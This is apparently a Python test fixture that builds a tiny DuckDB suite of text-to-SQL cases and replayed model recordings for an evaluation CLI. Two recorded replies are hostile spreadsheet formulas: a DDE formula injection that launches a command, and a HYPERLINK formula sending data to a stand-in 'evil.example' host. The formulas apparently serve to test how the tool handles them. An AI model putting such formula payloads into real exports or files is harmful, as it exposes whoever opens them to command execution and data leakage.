"""A small suite the CLI tests evaluate offline, its models played back from recordings.

The suite: a four-row DuckDB `orders` table, four tests with reference SQL, `last_query`
extraction (no judge needed), and hand-written recordings played back as `replay:` models:

* `good` answers every test right; two of its replies are spreadsheet formulas;
* `mixed` answers `top_customer` wrong (and the rest right);
* `drift` starts as `good`; a test may rewrite it to `mixed` (the model got worse).
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import duckdb
import yaml

from eval_pipeline_tests.cli.console import cli_env

REKEY = Path(__file__).resolve().parents[2] / "benchmarks" / "rekey_recording.py"
DAY, NEXT_DAY = "2026-01-01", "2026-01-02"
FIRST_MODELS = ("replay:good", "replay:drift")
FIRST_MODELS_ARGS = ("-m", FIRST_MODELS[0], "-m", FIRST_MODELS[1])

CASES = {
    "total_revenue": ("What is the total revenue?", "SELECT SUM(amount) AS revenue FROM orders"),
    "order_count": ("How many orders were placed?", "SELECT COUNT(*) AS orders FROM orders"),
    "top_customer": (
        "Which customer spent the most?",
        "SELECT customer FROM orders GROUP BY customer ORDER BY SUM(amount) DESC LIMIT 1",
    ),
    "customer_count": (
        "How many customers bought something?",
        "SELECT COUNT(DISTINCT customer) AS customers FROM orders",
    ),
}
FAILED_BY_MIXED = "top_customer"
WRONG_SQL = "SELECT 'cy' AS customer"  # the right answer is 'bo' (80.0 + 42.25)
FORMULA = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","Click for details")'
REPLIES = {"customer_count": FORMULA, "order_count": HYPERLINK}

#: What `grades` holds after an evaluation of FIRST_MODELS, as GRADES_SQL reads it.
VERDICTS = [
    ["replay:drift", "customer_count", "passed"],
    ["replay:drift", "order_count", "passed"],
    ["replay:drift", "top_customer", "passed"],
    ["replay:drift", "total_revenue", "passed"],
    ["replay:good", "customer_count", "passed"],
    ["replay:good", "order_count", "passed"],
    ["replay:good", "top_customer", "passed"],
    ["replay:good", "total_revenue", "passed"],
]
GRADES_SQL = "SELECT model, name, status FROM grades ORDER BY model, name"


def recording(sql: dict[str, str], replies: dict[str, str]) -> str:
    """Per test: turn 0 runs one query through `execute_sql`, turn 1 gives the final reply."""
    lines = [{"_comment": "hand-written for the CLI tests"}]
    for name, query in sql.items():
        lines.append(
            {
                "test": name,
                "turn": 0,
                "completion": {
                    "text": "",
                    "tool_calls": [{"name": "execute_sql", "arguments": {"sql_query": query}}],
                    "usage": {"input_tokens": 120, "output_tokens": 30},
                },
            }
        )
        lines.append(
            {
                "test": name,
                "turn": 1,
                "completion": {
                    "text": replies.get(name, "Here is the figure."),
                    "usage": {"input_tokens": 200, "output_tokens": 12},
                },
            }
        )
    return "".join(json.dumps(line) + "\n" for line in lines)


GOOD = recording({name: sql for name, (_, sql) in CASES.items()}, REPLIES)
MIXED = recording(
    {name: (WRONG_SQL if name == FAILED_BY_MIXED else sql) for name, (_, sql) in CASES.items()},
    {},
)


def write_suite(root: Path) -> Path:
    (root / "cases").mkdir(parents=True)
    (root / "recordings").mkdir()
    with duckdb.connect(str(root / "warehouse.duckdb")) as connection:
        connection.execute(
            "CREATE TABLE orders AS SELECT * FROM (VALUES (1, 'ada', 120.5), (2, 'bo', 80.0), "
            "(3, 'bo', 42.25), (4, 'cy', 10.0)) t(order_id, customer, amount)"
        )
    config = {
        "test": {"models": ["replay:good"], "threads": 2, "extraction": "last_query"},
        "warehouse": {"type": "duckdb", "path": "warehouse.duckdb"},
        "llm": {
            "providers": [
                {"provider": "openai", "api_key": "{{ env('OPENAI_API_KEY') }}", "models": []}
            ]
        },
    }
    (root / "eval_config.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    for name, (prompt, sql) in CASES.items():
        (root / "cases" / f"{name}.yml").write_text(
            yaml.safe_dump({"name": name, "prompt": prompt, "sql": sql}, sort_keys=False)
        )
    (root / "recordings" / "good.jsonl").write_text(GOOD)
    (root / "recordings" / "mixed.jsonl").write_text(MIXED)
    (root / "recordings" / "drift.jsonl").write_text(GOOD)
    rekey(root, "good", "mixed", "drift")
    return root


def rekey(root: Path, *recordings: str) -> None:
    """Fill in the request keys of hand-written recordings, with the documented script."""
    result = subprocess.run(
        [sys.executable, str(REKEY), str(root), *recordings],
        env=cli_env(),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def set_store(root: Path, store: dict | None) -> None:
    """Set the suite's `store:` block (None: remove it, the store is local again)."""
    config = yaml.safe_load((root / "eval_config.yaml").read_text())
    config["store"] = store
    if store is None:
        del config["store"]
    (root / "eval_config.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
